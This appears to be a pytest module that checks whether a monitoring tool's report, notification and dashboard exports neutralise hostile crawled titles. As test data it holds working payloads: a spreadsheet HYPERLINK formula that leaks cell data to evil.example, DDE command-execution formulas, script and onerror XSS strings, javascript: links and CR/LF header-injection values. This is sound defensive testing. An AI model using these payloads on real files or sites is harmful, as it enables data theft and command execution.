"""Hostile crawled text in the outputs: the annual report's XLSX/Markdown/HTML/DOCX/WARC pack, the
notifications and the dashboard's exports (docs/security.md, "Reports and exports").

A real SQLite store is filled the way the crawler does (tests/test_report.py's Store) with titles an
attacker controls; the report is built by the real model and renderers and the files are read back
with the libraries a reader's tools use: openpyxl, python-docx, warcio, and Python-Markdown (what
Apprise uses to turn a notification into an e-mail) for the Markdown.
"""
from __future__ import annotations

import io
import re
import zipfile
from html.parser import HTMLParser

import markdown
import pytest
from docx import Document
from openpyxl import load_workbook
from warcio.archiveiterator import ArchiveIterator

from monitor import notify
from monitor.config import load_config
from monitor.core import clock
from monitor.core.safe_text import TITLE_MAX, sheet_value
from monitor.dashboard import tables
from monitor.report import build_report, write_outputs
from monitor.store import open_db
from tests.test_notify import _Mailbox, item, receiver, smtp, write_config  # noqa: F401 (fixtures)
from tests.test_report import CATALOG, CONFIG, XXGK, YEAR, ZSB, Store

# Spreadsheet payloads: a data-leaking hyperlink, DDE command execution, each formula trigger, and
# triggers hidden behind a tab, a line break or spaces.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\r\n=1+1",
    "   =1+1",
]
# Markup payloads: raw HTML, a script link, a tracking image, a forged table row.
IMG = '<img src=x onerror=alert(1)>关于招生工作的通知'
SCRIPT = "<script>alert(document.cookie)</script>招生章程公示"
MD_LINK = "[点击领取奖学金](javascript:alert(1))"
MD_IMAGE = "![](http://tracker.example/pixel.gif)年度报告"
PIPES = "预算|公开\n| 伪造单元格 | 伪造行 |"
CONTROL = "财务\x01\x08报告\x0b公示"
LONG = "很长的标题" * 2000
JS_URL = "javascript:alert(1)"
ODD_URL = f"{XXGK}/info/a(1)|b c.htm"


@pytest.fixture
def hostile(tmp_path):
    """Item 1's column (a list whose own name is hostile) lists entries with hostile titles, all
    dated in 2018-2019; item 7's column has a fetched article whose stored headers try to forge
    WARC/HTTP header lines."""
    s = Store(tmp_path / "xxgk.db")
    x, z = XXGK + "/", ZSB + "/"
    jb = s.page(f"{XXGK}/jbxx/list.htm", x, "", "list", SCRIPT)
    titles = FORMULAS + [IMG, SCRIPT, MD_LINK, MD_IMAGE, PIPES, CONTROL, LONG]
    for i, title in enumerate(titles):
        s.entry(jb, f"{XXGK}/info/{i}.htm", title, f"2018-10-{i + 1:02d}")
    s.entry(jb, JS_URL, "看这里", "2018-11-01")
    s.entry(jb, ODD_URL, "括号与竖线网址", "2018-11-02")
    s.column("1", f"{XXGK}/jbxx/list.htm", jb)
    zl = s.page(f"{ZSB}/zszc.htm", z, "zsb", "list", "招生章程")
    art = f"{ZSB}/info/1011/2001 1.htm"
    pid = s.page(art, z, "zsb", "article", IMG, "2019-04-01")
    s.db.execute("UPDATE versions SET headers=? WHERE page_id=?",
                 ('{"Content-Type": "text/html", "X-Evil": "a\\r\\nInjected: yes", "Bad Name\\r\\nX": "1"}', pid))
    s.entry(zl, art, IMG, "2019-04-01")
    s.column("7", f"{ZSB}/zszc.htm", zl)
    (tmp_path / "catalog.yaml").write_text(CATALOG, encoding="utf-8")
    (tmp_path / "xxgk.yaml").write_text(CONFIG, encoding="utf-8")
    clock.set_now("2019-10-20")
    try:
        report = build_report(s.db, load_config(tmp_path / "xxgk.yaml"), YEAR)
        out = write_outputs(report, s.db, tmp_path / "out", ["docx", "xlsx", "html", "md", "zip"])
    finally:
        clock.set_now(None)
    return report, out


def _crawled(title: str) -> str:
    """A title as the report holds it: control characters dropped, capped at TITLE_MAX."""
    text = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", title)
    return text if len(text) <= TITLE_MAX else text[:TITLE_MAX - 1] + "…"


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the visible text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def names(self) -> set[str]:
        return {t for t, _ in self.tags}

    def hrefs(self) -> list[str]:
        return [a.get("href") or "" for t, a in self.tags if t == "a"]


def _assert_no_live_markup(tags: _Tags) -> None:
    assert not tags.names() & {"script", "img", "iframe", "svg", "object"}, tags.names()
    assert not any(k.startswith("on") for _t, a in tags.tags for k in a), "event handler attribute"
    assert tags.hrefs() and all(h.startswith(("http://", "https://", "#")) for h in tags.hrefs()), tags.hrefs()
    assert not [h for h in tags.hrefs() if "tracker" in h or "javascript" in h.lower()]


# --------------------------------------------------------------------------- XLSX

def test_xlsx_cells_are_text_and_read_as_the_crawled_title(hostile):
    report, out = hostile
    wb = load_workbook(out["xlsx"])
    strings = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    strings.append(cell)
    # No formula element anywhere in the file, whatever openpyxl makes of it.
    with zipfile.ZipFile(out["xlsx"]) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    # The publications sheet shows every title exactly as crawled (no apostrophe, no escaping).
    titles = [r[4] for r in wb["本学年公开内容"].iter_rows(min_row=2, values_only=True)]
    for title in FORMULAS + [IMG, SCRIPT, MD_LINK, MD_IMAGE, PIPES, CONTROL, LONG]:
        assert _crawled(title) in titles, title
    cells = {c.value: c for c in strings}
    for title in FORMULAS:
        assert cells[title].quotePrefix, f"{title!r}: stays text when a person edits the cell"
    assert len(cells[_crawled(LONG)].value) == TITLE_MAX and cells[_crawled(LONG)].value.endswith("…")
    # Hyperlinks only to http(s); the javascript: entry is listed as text.
    links = {c.hyperlink.target for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.hyperlink}
    assert links and all(u.startswith("http") for u in links)
    assert JS_URL in {r[5] for r in wb["本学年公开内容"].iter_rows(min_row=2, values_only=True)}


# --------------------------------------------------------------------------- Markdown and HTML

def test_markdown_report_has_no_live_markup_and_keeps_its_tables(hostile):
    report, out = hostile
    md = out["md"].read_text(encoding="utf-8")
    html = markdown.markdown(md, extensions=["tables"])
    tags = _Tags(html)
    _assert_no_live_markup(tags)
    text = "".join(tags.text)
    for visible in (IMG, SCRIPT, MD_LINK, MD_IMAGE):   # the attacker's text is shown, as text
        assert visible in text, visible
    # The hostile titles did not add cells or rows: every 附表三 row still has 8 cells.
    items_table = html.split("附表三")[1].split("</table>")[0]
    rows = re.findall(r"<tr>(.*?)</tr>", items_table, re.S)
    assert len(rows) == len(report.items) + 1
    assert all(r.count("<td") == 8 for r in rows[1:])
    evidence = html.split("附表六")[1].split("</table>")[0]
    assert all(r.count("<td") == 6 for r in re.findall(r"<tr>(.*?)</tr>", evidence, re.S)[1:])
    # The odd URL is still one working link (parentheses, bar and space encoded).
    assert "http://xxgk.example.edu.cn/info/a%281%29%7Cb%20c.htm" in tags.hrefs()
    assert len(_crawled(LONG)) == TITLE_MAX and _crawled(LONG) in md


def test_html_report_has_no_live_markup(hostile):
    report, out = hostile
    page = out["html"].read_text(encoding="utf-8")
    tags = _Tags(page)
    _assert_no_live_markup(tags)
    text = "".join(tags.text)
    assert IMG in text and SCRIPT in text and MD_LINK in text
    assert "看这里" in text   # the javascript: entry is listed, not linked


# --------------------------------------------------------------------------- DOCX and the evidence pack

def test_docx_holds_control_characters_and_links_only_http(hostile):
    report, out = hostile
    doc = Document(str(out["docx"]))
    body = "\n".join(c.text for t in doc.tables for row in t.rows for c in row.cells)
    assert "财务报告公示" in body and IMG in body and "看这里" in body
    rels = [r.target_ref for r in doc.part.rels.values() if r.reltype.endswith("/hyperlink")]
    assert rels and all(r.startswith("http") for r in rels) and not any("javascript" in r for r in rels)


def test_warc_records_cannot_be_forged_by_stored_headers_or_urls(hostile):
    report, out = hostile
    with zipfile.ZipFile(out["zip"]) as zf:
        assert {"report.docx", "report.xlsx", "report.md", "report.html"} <= set(zf.namelist())
        records = []
        for name in zf.namelist():
            if name.endswith(".warc.gz"):
                records += [(r.rec_type, r.rec_headers.get_header("WARC-Target-URI"), r.http_headers)
                            for r in ArchiveIterator(io.BytesIO(zf.read(name)))]
    responses = [(uri, h) for kind, uri, h in records if kind == "response"]
    assert responses
    for uri, http_headers in responses:
        assert not re.search(r"\s", uri), uri
        assert http_headers.get_header("Injected") is None
        assert not any("\n" in v or "\r" in v or " " in k for k, v in http_headers.headers)
    assert f"{ZSB}/info/1011/2001%201.htm" in [u for u, _ in responses]


# --------------------------------------------------------------------------- notifications

HOSTILE_REASON = (f"对应页面返回：{IMG} {MD_LINK} {MD_IMAGE} {SCRIPT}\n# 伪造标题\n| 伪造 | 表格 |")


def test_notification_body_is_escaped_for_markdown_and_the_html_mail(tmp_path, receiver, smtp, monkeypatch):
    monkeypatch.setenv("SMTP_PW", "s3cret-pw")
    cfg = load_config(write_config(tmp_path, receiver, smtp_port=smtp.port))
    db = open_db(cfg.database_path)
    db.execute("INSERT INTO scans (started_at, status, message) VALUES ('2019-07-14T02:30:00+08:00', 'failed', ?)",
               (f"抓取失败：{IMG}",))
    statuses = [item("15", "unreachable", last=None, reason=HOSTILE_REASON),
                item("12", "overdue", due="2019-07-10", reason=HOSTILE_REASON),
                item("19", "ok", due="2020-06-30"), item("7", "ok", due="2020-06-30")]
    result = notify.run_notifications(db, cfg, as_of=clock.as_date("2019-07-15"), statuses=statuses)
    assert not result.failed
    # Webhook (Markdown as sent): no raw tag, link or image, and each hostile reason stays one line.
    bodies = [m["message"] for m in receiver.to("zsb") + receiver.to("office")]
    assert len(bodies) == 2
    for body in bodies:
        assert "<img" not in body and "<script" not in body
        assert not re.search(r"(?<!\\)\]\(javascript:", body) and "![](" not in body   # only escaped
        assert not re.search(r"^\s*#+ 伪造标题", body, re.M)
        assert "关于招生工作的通知" in body
        rendered = _Tags(markdown.markdown(body, extensions=["tables"]))
        assert not rendered.names() & {"script", "img", "table"}
        assert not [h for h in rendered.hrefs() if not h.startswith("http")]
    # E-mail: Apprise renders the Markdown as HTML; the attacker's markup arrives as text.
    assert len(smtp.mails) == 1
    mail_html = smtp.mails[0].get_body(preferencelist=("html",)).get_content()
    tags = _Tags(mail_html)
    assert not tags.names() & {"script", "img", "iframe"}
    assert not [h for h in tags.hrefs() if "javascript" in h.lower() or "tracker" in h]
    assert IMG in "".join(tags.text)


# --------------------------------------------------------------------------- the dashboard's exports

def test_dashboard_exports_use_the_shared_rule():
    assert tables._safe is sheet_value   # one rule, in monitor.core.safe_text
    table = tables.Table("items", "事项", [tables.Column("title", "标题")],
                         [{"title": t} for t in FORMULAS + [CONTROL, "正常标题"]])
    rows = list(__import__("csv").reader(io.StringIO(tables.to_csv(table, {}).decode("utf-8-sig"))))[1:]
    for (cell,), title in zip(rows, FORMULAS):
        assert cell == "'" + title, title     # CSV has no cell types: the apostrophe marks text
    assert rows[-2:] == [["财务报告公示"], ["正常标题"]]
    wb = load_workbook(io.BytesIO(tables.to_xlsx(table, {})))
    cells = [c for row in wb.active.iter_rows(min_row=2) for c in row]
    assert all(c.data_type == "s" for c in cells) and cells[-2].value == "财务报告公示"
